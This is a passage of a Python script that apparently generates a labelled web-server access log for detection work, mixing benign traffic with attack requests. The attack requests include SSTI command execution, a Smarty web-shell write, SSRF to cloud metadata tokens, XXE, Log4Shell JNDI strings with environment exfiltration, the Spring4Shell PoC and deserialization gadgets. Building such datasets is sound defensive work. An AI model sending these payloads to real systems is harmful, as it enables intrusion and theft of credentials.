T('ssti', 'thymeleaf-preprocess', '/lang?locale=' + q('__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x'), 200, ST + ' Thymeleaf (preprocessing)')
T('ssti', 'erb-system', '/hello?name=' + q("<%= system('id') %>"), 200, ST + ' ERB (Ruby)')
T('ssti', 'erb-backticks', '/hello?name=%3C%25%3D%20%60cat%20/etc/passwd%60%20%25%3E', 200, ST + ' ERB (backticks)')
T('ssti', 'smarty-php-tag', '/index.php?tpl=' + q("{system('id')}"), 200, ST + ' Smarty')
T('ssti', 'smarty-self-getstream', '/index.php?name=' + q("{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}"), 200, ST + ' Smarty (writeFile)')
T('ssti', 'spel-runtime', "/api/v1/items?filter=" + q("#{T(java.lang.Runtime).getRuntime().exec('id')}"), 400, 'SpEL injection (PortSwigger / OWASP)')
T('ssti', 'ognl-expression', "/search.action?q=" + q("%{(#rt=@java.lang.Runtime@getRuntime().exec('id'))}"), 200, 'OGNL expression injection (Struts-style, generic parameter)')
T('ssti', 'el-jsp', '/page.jsp?x=' + q("${pageContext.request.getSession().setAttribute('a',1)}${applicationScope}"), 200, 'Java EL injection (OWASP Expression Language Injection)')
T('ssti', 'tornado-import', '/greet?n=' + q("{% import os %}{{os.popen('id').read()}}"), 200, ST + ' Tornado')
T('ssti', 'handlebars-require', '/render?t=' + q("{{#with \"s\" as |string|}}{{#with \"e\"}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{/with}}{{/with}}"), 200, ST + ' Handlebars')
T('ssti', 'sstimap-marker', '/hello?name=' + q('{{1337*1338}}${1337*1338}<%=1337*1338%>'), 200, 'SSTImap detection probes')

# ================================================================= SSRF
SR = PATT + ' Server Side Request Forgery'
T('ssrf', 'aws-metadata', '/fetch?url=http://169.254.169.254/latest/meta-data/', 200, SR + ' (AWS)')
T('ssrf', 'aws-metadata-encoded', '/api/v1/preview?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data', 200, SR + ' (AWS, encoded)')
T('ssrf', 'metadata-decimal', '/proxy?u=http://2852039166/latest/meta-data/', 200, SR + ' (decimal IP)')
T('ssrf', 'metadata-hex', '/image?src=http://0xA9FEA9FE/latest/meta-data/iam/', 200, SR + ' (hex IP)')
T('ssrf', 'metadata-dotted-hex', '/image?src=http://0xa9.0xfe.0xa9.0xfe/latest/', 200, SR + ' (dotted hex)')
T('ssrf', 'metadata-ipv6-mapped', '/fetch?url=http://[::ffff:a9fe:a9fe]/latest/meta-data/', 200, SR + ' (IPv4-mapped IPv6)')
T('ssrf', 'aws-ipv6-imds', '/fetch?url=http://[fd00:ec2::254]/latest/meta-data/', 200, SR + ' (AWS IPv6 IMDS)')
T('ssrf', 'gcp-metadata', '/webhook/test?endpoint=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', 200, SR + ' (GCP)')
T('ssrf', 'azure-metadata', '/api/v1/import?source=http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01%26resource=https://management.azure.com/', 200, SR + ' (Azure)')
T('ssrf', 'localhost-admin', '/fetch?url=http://localhost/admin', 200, SR + ' (localhost)')
T('ssrf', 'localhost-zero', '/proxy?url=http://0/server-status', 200, SR + ' (0)')
T('ssrf', 'localhost-short', '/proxy?url=http://127.1:8080/', 200, SR + ' (127.1)')
T('ssrf', 'localhost-ipv6', '/fetch?url=http://[::1]:6379/', 200, SR + ' ([::1])')
T('ssrf', 'localhost-enclosed-alnum', '/fetch?url=http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0/', 200, SR + ' (enclosed alphanumerics)')
T('ssrf', 'localhost-at-bypass', '/fetch?url=http://trusted.example@127.0.0.1:22/', 200, SR + ' (userinfo bypass)')
T('ssrf', 'dns-localtest', '/api/v1/fetch?url=http://localtest.me:9200/_cat/indices', 200, SR + ' (localtest.me)')
T('ssrf', 'gopher-smtp', '/fetch?url=gopher://127.0.0.1:25/_HELO%20x%250d%250aMAIL%20FROM%3A%3Ca%40x%3E', 200, 'Gopherus SMTP payload')
T('ssrf', 'dict-redis', '/fetch?url=dict://127.0.0.1:6379/info', 200, SR + ' (dict://)')
T('ssrf', 'file-scheme-hosts', '/preview?link=file:///etc/hosts', 200, SR + ' (file://)')
T('ssrf', 'file-scheme-windows', '/pdf?src=file:///C:/Windows/win.ini', 200, SR + ' (file:// Windows)')
T('ssrf', 'oob-callback', '/api/v1/avatar?url=http://' + CB[1] + '/ssrf', 200, 'Burp Collaborator / interactsh OOB SSRF probe', ua=TOOL['go'])

# ================================================================= XXE / XPath / LDAP via GET
T('xxe', 'xxe-classic', '/api/v1/parse?xml=' + q('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), 400, PATT + ' XXE Injection')
T('xxe', 'xxe-php-filter', '/import?data=' + q('<!DOCTYPE r [<!ENTITY f SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><r>&f;</r>'), 200, PATT + ' XXE (php://filter)')
T('xxe', 'xxe-oob', '/rss?feed=' + u('<!DOCTYPE d [<!ENTITY % e SYSTEM "http://' + CB[2] + '/e.dtd">%e;]><d/>'), 200, PATT + ' XXE (OOB parameter entity)')
T('xxe', 'xxe-svg', '/convert?svg=' + q('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'), 200, PATT + ' XXE (SVG)')
T('xpath', 'xpath-or-true', "/login?user='%20or%20'1'='1&pass='%20or%20''='", 200, 'OWASP Testing Guide WSTG-INPV-09 XPath injection')
T('xpath', 'xpath-count-name', "/products?name=x'%20or%20count(/*)=1%20or%20'a'='b", 200, PATT + ' XPath Injection (blind)')
T('xpath', 'xpath-string-length', "/api/v1/lookup?key=1'%20and%20string-length(name(/*[1]))=5%20and%20'1'='1", 200, PATT + ' XPath Injection (string-length)')
T('ldap', 'ldap-wildcard-or', '/directory?user=*)(%7C(objectClass=*)', 200, PATT + ' LDAP Injection')
T('ldap', 'ldap-auth-bypass', '/login?username=admin)(%26)&password=x', 200, PATT + ' LDAP Injection (auth bypass)')
T('ldap', 'ldap-attr-blind', '/people?cn=*)(userPassword=a*', 200, PATT + ' LDAP Injection (blind attribute)')

# ================================================================= CRLF / header injection
CR = PATT + ' CRLF Injection'
T('crlf', 'set-cookie-param', '/redirect?url=/home%0d%0aSet-Cookie:%20sessionid=attacker', 302, CR)
T('crlf', 'response-split-html', '/lang?lang=en%0d%0aContent-Length:%2035%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E', 200, CR + ' (response splitting)')
T('crlf', 'lf-only-header', '/page?ref=x%0aX-Injected:%20true', 200, CR + ' (LF only)')
T('crlf', 'double-encoded-crlf', '/?next=%250d%250aLocation:%20https://evil.example', 200, CR + ' (double encoded)')
T('crlf', 'utf8-crlf-path', '/%E5%98%8D%E5%98%8ALocation:%20https://evil.example/', 404, CR + ' (UTF-8 U+560D U+560A)')
T('crlf', 'crlf-path-xss', '/%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Csvg%20onload=alert(1)%3E', 404, CR + ' (in path, header then body)')
T('crlf', 'crlf-access-control', '/api/v1/items?callback=x%0D%0AAccess-Control-Allow-Origin:%20*', 200, CR + ' (CORS header)')
T('crlf', 'crlf-cr-only', '/search?q=test%0dSet-Cookie:%20a=b', 200, 'CRLFuzz payload list (CR only)')

# ================================================================= open redirect
R = PATT + ' Open Redirect'
T('open-redirect', 'redirect-absolute', '/login?next=https://evil.example/', 302, R)
T('open-redirect', 'redirect-protocol-relative', '/logout?redirect=//evil.example', 302, R + ' (//host)')
T('open-redirect', 'redirect-backslashes', '/auth?return_to=/%5C%5Cevil.example', 302, R + ' (/\\\\host)')
T('open-redirect', 'redirect-triple-slash', '/go?url=///evil.example/%2e%2e', 302, R + ' (///host)')
T('open-redirect', 'redirect-tab-scheme', '/out?dest=ht%09tps://evil.example', 302, R + ' (tab in scheme)')
T('open-redirect', 'redirect-at-sign', '/signin?continue=https://shop.example@evil.example', 302, R + ' (userinfo @)')
T('open-redirect', 'redirect-dot-suffix', '/oauth/authorize?redirect_uri=https://shop.example.evil.example/callback', 302, R + ' (suffix domain)')
T('open-redirect', 'redirect-encoded-slashes', '/redir?to=%2F%2Fevil%252Eexample', 302, R + ' (encoded //)')
T('open-redirect', 'redirect-question-trick', '/account/login?returnUrl=https://evil.example%3F.shop.example', 302, R + ' (? before allowed host)')
T('open-redirect', 'redirect-data-uri', '/continue?url=data:text/html;base64,' + b64('<script>location="https://evil.example"</script>'), 302, R + ' (data:)')

# ================================================================= prototype pollution
PP = PATT + ' Prototype Pollution'
T('prototype-pollution', 'proto-bracket', '/?__proto__[isAdmin]=true', 200, PP + ' (query, bracket)')
T('prototype-pollution', 'proto-dot', '/api/v1/items?__proto__.polluted=yes', 200, PP + ' (dot notation)')
T('prototype-pollution', 'constructor-prototype', '/search?constructor[prototype][innerHTML]=%3Cimg/src/onerror%3Dalert(1)%3E', 200, PP + ' (constructor[prototype] XSS gadget)')
T('prototype-pollution', 'proto-json-value', '/api/v1/settings?prefs=' + q('{"__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/cmdline"}}'), 200, 'Michal Bentkowski / BlackFan client-side prototype pollution; Node.js RCE gadget')
T('prototype-pollution', 'proto-encoded', '/page?__pro__proto__to__[x]=1&%5F%5Fproto%5F%5F[transport_url]=data:,alert(1)//', 200, 'PortSwigger prototype pollution (filter-bypass, encoded)')
T('prototype-pollution', 'proto-status-probe', '/api/v1/items?__proto__[status]=510', 200, 'Gareth Heyes "Server-side prototype pollution" (status probe)')

# ================================================================= deserialization markers
T('deserialization', 'java-rO0-param', '/session/restore?state=' + q('rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3I='), 500, 'ysoserial CommonsBeanutils1 (base64 rO0AB)')
T('deserialization', 'java-hex-aced', '/api/v1/import?obj=aced0005737200116a6176612e7574696c2e48617368536574', 500, 'Java serialization magic in hex (aced0005)')
T('deserialization', 'php-object', '/index.php?data=' + q('O:8:"Example1":1:{s:10:"cache_file";s:15:"../../index.php";}'), 200, PATT + ' PHP Object Injection')
T('deserialization', 'php-object-b64', '/cart?c=' + q(b64('a:1:{i:0;O:17:"GuzzleHttp\\Psr7\\FnStream":1:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"close";s:7:"phpinfo";}}}')), 200, 'PHPGGC Guzzle gadget (base64 in a parameter)')
T('deserialization', 'dotnet-viewstate', '/Default.aspx?__VIEWSTATE=' + q('/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAASVN5c3RlbS5XaW5kb3dzLkZvcm1zLCBWZXJzaW9uPTQuMC4wLjAsIEN1bHR1cmU9bmV1dHJhbCwgUHVibGljS2V5VG9rZW49Yjc3YTVjNTYxOTM0ZTA4OQUBAAAAIVN5c3RlbS5XaW5kb3dzLkZvcm1zLkF4SG9zdCtTdGF0ZQ==') + '&__VIEWSTATEGENERATOR=CA0B0334', 500, 'ysoserial.net TypeConfuseDelegate / AxHost.State ViewState')
T('deserialization', 'dotnet-json-type', '/api/v1/import?data=' + q('{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}'), 500, 'ysoserial.net Json.Net ObjectDataProvider')
T('deserialization', 'python-pickle', '/api/v1/state?s=' + q(b64("cposix\nsystem\n(S'id'\ntR.")), 500, 'Python pickle (posix.system) base64')
T('deserialization', 'yaml-python-object', '/config?yaml=' + q('!!python/object/apply:os.system ["id"]'), 500, 'PyYAML unsafe load gadget')

# ================================================================= Log4Shell / JNDI
L4 = 'Log4Shell (CVE-2021-44228) obfuscation list'
T('log4shell', 'jndi-plain-param', '/search?q=' + q('${jndi:ldap://' + CB[0] + '/a}'), 200, 'LunaSec Log4Shell advisory')
T('log4shell', 'jndi-lower', '/?lang=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://' + CB[1] + '/x}', 200, L4 + ' ${lower:}')
T('log4shell', 'jndi-upper-rmi', '/api/v1/items?q=%24%7B%24%7Bupper%3Aj%7Dndi%3Armi%3A%2F%2F198.18.30.1%3A1099%2Fo%7D', 200, L4 + ' ${upper:} rmi')
T('log4shell', 'jndi-default-value', '/login?username=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7D%24%7B%3A%3A-d%7D%24%7B%3A%3A-i%7D%3A%24%7B%3A%3A-l%7D%24%7B%3A%3A-d%7D%24%7B%3A%3A-a%7D%24%7B%3A%3A-p%7D%3A%2F%2F' + CB[2] + '%2Fz%7D', 200, L4 + ' ${::-j}')
T('log4shell', 'jndi-env-exfil', '/?x=${jndi:dns://${env:USER}.' + CB[3] + '/a}', 200, L4 + ' (env exfiltration over DNS)')
T('log4shell', 'jndi-date-trick', '/page?id=${${date:\'j\'}${date:\'n\'}${date:\'d\'}${date:\'i\'}:ldap://' + CB[0] + '/d}', 200, L4 + ' ${date:}')
T('log4shell', 'jndi-user-agent', '/', 200, L4 + ' (User-Agent)', ua='${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://' + CB[1] + '/ua}')
T('log4shell', 'jndi-referer', '/products', 200, L4 + ' (Referer)', ref='${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//' + CB[2] + '/r}')
T('log4shell', 'jndi-double-encoded', '/search?q=%2524%257Bjndi%253Aldap%253A%252F%252F198.18.30.2%253A1389%252FExploit%257D', 200, L4 + ' (double URL encoding)')

# ================================================================= Spring4Shell / class.module params
T('spring4shell', 'class-module-classloader', '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20%7D&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=', 200, 'Spring4Shell (CVE-2022-22965) public PoC (any Spring MVC endpoint)')
T('spring4shell', 'class-module-probe', '/api/v1/items?class.module.classLoader.DefaultAssertionStatus=nonsense', 400, 'Spring4Shell detection probe (Randori/ LunaSec)')
T('spring4shell', 'class-classloader-old', '/search?class.classLoader.URLs%5B0%5D=0', 400, 'Spring class.classLoader binding probe (CVE-2010-1622 style)')

# ================================================================= HTTP parameter pollution
T('hpp', 'hpp-sqli-split', '/product?id=1/*&id=*/UNION/*&id=*/SELECT%201,2,3--', 200, 'OWASP HPP (SQL split across duplicates, ASP.NET comma join)')
T('hpp', 'hpp-comma-join-union', '/Default.aspx?q=1%20union/*&q=*/select%20@@version--', 200, 'Lavakumar Kuppan HPP WAF bypass (ASP.NET joins with comma)')
T('hpp', 'hpp-redirect-override', '/login?next=/account&next=https://evil.example/', 302, PATT + ' Open Redirect (duplicate parameter)')
T('hpp', 'hpp-encoded-ampersand', '/transfer?to=alice%26amount%3D9999%26to%3Dmallory&amount=1', 200, 'OWASP WSTG-INPV-04 HPP (encoded & injects parameters)')

# ================================================================= GraphQL introspection via GET
T('graphql', 'introspection-schema', '/graphql?query=' + q('{__schema{types{name,fields{name}}}}'), 200, PATT + ' GraphQL Injection (introspection)')
T('graphql', 'introspection-newline-bypass', '/api/graphql?query=query%7B__schema%0A%7BqueryType%7Bname%7D%7D%7D', 200, 'PortSwigger GraphQL (introspection filter bypass with newline)')
T('graphql', 'graphql-sqli-arg', '/graphql?query=' + q('{user(id:"1\' OR 1=1--"){id,email,password}}'), 200, PATT + ' GraphQL Injection (SQLi in argument)')

# ================================================================= benign traffic
SHOP = 'https://shop.example'
DOCS = 'https://docs.example'
FORUM = 'https://forum.example'

BENIGN_SEARCHES = {
 'search-sql': ['select+*+from+table+where', 'how+to+use+UNION+in+SQL', 'sql+"order+by"+descending', 'drop+table+if+exists+syntax', 'insert+into+values+multiple+rows'],
 'search-html': ['%3Cdiv%3E+centering', 'css+%3Cimg%3E+alt+text', 'alert+box+javascript', 'onload+event+not+firing', 'script+tag+defer+vs+async'],
 'search-shell': ['rm+-rf+warning', 'bash+%24%28pwd%29+in+script', 'cat+%2Fetc%2Fhosts+permission+denied', 'ping+-c+4+meaning', 'curl+%7C+sh+safe%3F'],
 'search-misc': ['1%3D1+meaning', '..%2F+in+css+url', 'windows+%5Cwin.ini+location', 'password+reset+email', 'what+is+%7B%7Btemplate%7D%7D+syntax'],
 'shop-quotes': ['Ben+%26+Jerry%27s', 'O%27Neill+jacket', 'M%26M%27s+party+pack', '12%22+vinyl+record', 'Levi%27s+501+%2832%2F34%29'],
}

def docs_search(r, kind):
    term = r.choice(BENIGN_SEARCHES[kind])
    page = r.choice(['/docs/sql/joins/', '/docs/html/forms/', '/docs/shell/basics/', '/docs/css/layout/'])
    return [('GET', '/', 200, r.choice(['-', 'https://www.google.com/'])),
            ('GET', '/assets/docs.css', 200, DOCS + '/'), ('GET', '/assets/docs.js', 200, DOCS + '/'),
            ('GET', '/search?q=' + term, 200, DOCS + '/'),
            ('GET', page, 200, DOCS + '/search?q=' + term),
            ('GET', '/assets/img/diagram-1.svg', 200, DOCS + page)]

def forum_visit(r, kind):
    term = r.choice(BENIGN_SEARCHES[kind])
    t = r.choice(['4412-why-does-my-query-return-duplicates', '5120-escaping-quotes-in-html-attributes', '3981-safe-way-to-delete-old-logs'])
    return [('GET', '/t/' + t, 200, r.choice(['-', 'https://duckduckgo.com/'])),
            ('GET', '/static/forum.css', 200, FORUM + '/t/' + t), ('GET', '/static/forum.js', 200, FORUM + '/t/' + t),
            ('GET', '/search?q=' + term + '&in=posts', 200, FORUM + '/t/' + t),
            ('GET', '/search?q=' + term + '&in=posts&page=2', 200, FORUM + '/search?q=' + term + '&in=posts')]

def shop_quotes(r, kind):
    term = r.choice(BENIGN_SEARCHES[kind])
    prod = r.choice(['ben-jerrys-cookie-dough', 'oneill-hyperfreak-jacket', 'mms-party-pack-1kg', 'levis-501-original'])
    return [('GET', '/', 200, '-'), ('GET', '/static/css/main.css', 200, SHOP + '/'),
            ('GET', '/search?q=' + term, 200, SHOP + '/'),
            ('GET', '/products/' + prod, 200, SHOP + '/search?q=' + term),
            ('GET', '/images/products/' + prod + '-800.webp', 200, SHOP + '/products/' + prod),
            ('GET', '/api/cart?add=' + prod + '&qty=1', 200, SHOP + '/products/' + prod)]

def shop_params(r, kind):
    # filters and sort parameters that contain operators, quotes, slashes
    v = r.choice(['/products?price=10-50&sort=price_asc&select=size,color', '/products?filter=brand%3D%22Dr.+Martens%22&order=desc',
                  '/products?q=1%2F2+inch+drill+bit&page=1', '/products?size=%3E%3D42&width=wide', '/products?q=%22rock+%26+roll%22+t-shirt'])
    return [('GET', '/', 200, 'https://www.bing.com/'), ('GET', '/static/css/main.css', 200, SHOP + '/'),
            ('GET', v, 200, SHOP + '/'), ('GET', '/images/banner-sale.webp', 200, SHOP + v),
            ('GET', '/login?next=/checkout/', 200, SHOP + v), ('GET', '/checkout/', 302, SHOP + '/login?next=/checkout/')]

BENIGN_KINDS = [('docs-search-sql', docs_search, 'search-sql')] * 8 + [('docs-search-html', docs_search, 'search-html')] * 7 + \
               [('forum-search-shell', forum_visit, 'search-shell')] * 7 + [('forum-search-misc', forum_visit, 'search-misc')] * 6 + \
               [('shop-search-quotes', shop_quotes, 'shop-quotes')] * 7 + [('shop-filter-params', shop_params, None)] * 5

# ================================================================= write
def esc(s):
    out = []
    for ch in s.encode('utf-8'):
        if ch == 0x22 or ch == 0x5c or ch < 0x20 or ch > 0x7e:
            out.append('\\x%02X' % ch)
        else:
            out.append(chr(ch))
    return ''.join(out)

SIZES = {200: (900, 24000), 302: (0, 154), 400: (150, 157), 403: (153, 153), 404: (153, 555), 500: (177, 4200)}

def size(r, st):
    lo, hi = SIZES[st]
    return r.choice([lo, hi]) if st in (302, 404, 400) else (lo if lo == hi else r.randint(lo, hi))

def line(ip, t, request, st, sz, ref, ua):
    return '%s - - [%s] "%s" %d %d "%s" "%s"' % (ip, t.strftime('%d/%b/%Y:%H:%M:%S +0000'), request, st, sz, esc(ref), esc(ua))

TOOL_FOR = {'aws-metadata': 'py', 'dotdot-windows-boot-ini': 'wfuzz', 'xss-in-path': 'nikto',
            'probe-polyglot': 'py', 'jndi-plain-param': 'go', 'localhost-short': 'curl'}

PAGE_REFS = ['https://shop.example/', 'https://shop.example/products/linen-shirt-white', 'https://www.example.com/search',
             'https://www.example.com/index.php', 'https://app.example/dashboard']

def main():
    r = random.Random(SEED)
    order = list(range(len(E)))
    r.shuffle(order)
    lines, labels, reqrows = [], [], []
    used = set()
    t = DAY + datetime.timedelta(minutes=2)
    for idx in order:
        e = E[idx]
        while True:
            ip = '100.%d.%d.%d' % (r.choice([88, 89]), r.randint(0, 255), r.randint(1, 254))
            if ip not in used:
                used.add(ip)
                break
        ua = e['ua'] if e['ua'] is not None else (TOOL[TOOL_FOR[e['label']]] if e['label'] in TOOL_FOR else UA[r.choice(BROWSERS)])
        st = e['status']
        if st == 200 and e['target'].split('?')[0] not in ('/', '/index.php', '/search', '/product', '/products'):
            # a probe of a route this site does not have, or one its WAF/nginx refuses
            x = r.random()
            st = 404 if x < 0.22 else 403 if x < 0.29 else 400 if x < 0.32 else 200
        e['status'] = st
        if e['ref'] is not None:
            ref = e['ref']
        else:
            ref = r.choice(PAGE_REFS) if r.random() < 0.12 else '-'
        t += datetime.timedelta(seconds=r.randint(45, 330))
        request = '%s %s HTTP/1.1' % (e['method'], e['target'])
        lines.append((t, line(ip, t, esc(request), e['status'], size(r, e['status']), ref, ua)))
        reqrows.append('\t'.join([ip, e['cat'], e['label'], esc(request), e['source']]))
        labels.append('%s\tattack\t%s\t%s' % (ip, e['cat'], e['label']))
    lines.sort(key=lambda x: x[0])
    # benign
    blines, blabels = [], []
    bused = set()
    for i, (kind, fn, arg) in enumerate(BENIGN_KINDS):
        while True:
            ip = '100.95.%d.%d' % (r.randint(128, 255), r.randint(1, 254))
            if ip not in bused:
                bused.add(ip)
                break
        ua = UA[r.choice(BROWSERS)]
        tt = DAY + datetime.timedelta(seconds=r.randint(300, 23 * 3600))
        for (m, target, st, ref) in fn(r, arg):
            asset = any(x in target for x in ('/static/', '/assets/', '/images/'))
            tt += datetime.timedelta(seconds=r.randint(0, 2) if asset and ref != '-' else r.randint(4, 75))
            blines.append((tt, line(ip, tt, esc('%s %s HTTP/1.1' % (m, target)), st, size(r, st), ref, ua)))
        blabels.append('%s\tbenign\t%s' % (ip, kind))
    blines.sort(key=lambda x: x[0])
    key = lambda s: tuple(int(x) for x in s.split('\t')[0].split('.'))
    with open(os.path.join(OUT, 'attacks.log'), 'w') as f:
        f.write(''.join(l + '\n' for _, l in lines))
    with open(os.path.join(OUT, 'attacks.labels'), 'w') as f:
        f.write(''.join(l + '\n' for l in sorted(labels, key=key)))
    with open(os.path.join(OUT, 'requests.tsv'), 'w') as f:
        f.write('ADDRESS\tCATEGORY\tTECHNIQUE\tREQUEST_LINE\tPUBLIC_SOURCE\n')
        f.write(''.join(l + '\n' for l in sorted(reqrows, key=key)))
    with open(os.path.join(OUT, 'benign.log'), 'w') as f:
        f.write(''.join(l + '\n' for _, l in blines))
    with open(os.path.join(OUT, 'benign.labels'), 'w') as f:
        f.write(''.join(l + '\n' for l in sorted(blabels, key=key)))

if __name__ == '__main__':
    main()
